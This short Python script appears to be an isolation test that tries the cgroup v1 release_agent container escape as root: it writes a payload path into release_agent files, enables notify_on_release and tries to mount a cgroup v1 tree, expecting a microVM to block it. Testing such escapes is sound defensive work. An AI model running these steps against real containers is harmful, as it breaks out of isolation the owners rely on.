# attack: the cgroup v1 release_agent escape (write a host command into release_agent)
# users: user root
# expect-microvm: blocked
import glob

from _lib import privileged, syscall

results = {}
targets = glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent")
for path in targets or ["/sys/fs/cgroup/memory/release_agent"]:
    try:
        with open(path, "w") as f:
            f.write("/tmp/payload")
        results[path] = "ok"
    except OSError as exc:
        results[path] = exc.strerror
for path in glob.glob("/sys/fs/cgroup/*/notify_on_release")[:3]:
    try:
        with open(path, "w") as f:
            f.write("1")
        results[path] = "ok"
    except OSError as exc:
        results[path] = exc.strerror
# Without a writable hierarchy the exploit mounts its own cgroup v1 tree. In a microVM even
# the guest's root cannot: the guest's cgroup v2 holds the memory controller (EBUSY).
import os

os.makedirs("/tmp/cg", exist_ok=True)
results["mount cgroup"] = syscall("mount", b"cgroup", b"/tmp/cg", b"cgroup", 0, b"memory")[1] or "ok"
wrote = [p for p, r in results.items() if r == "ok" and "release_agent" in p]
print(results)
privileged({"release_agent written": "ok" if wrote else "no", "mount cgroup": results["mount cgroup"]})
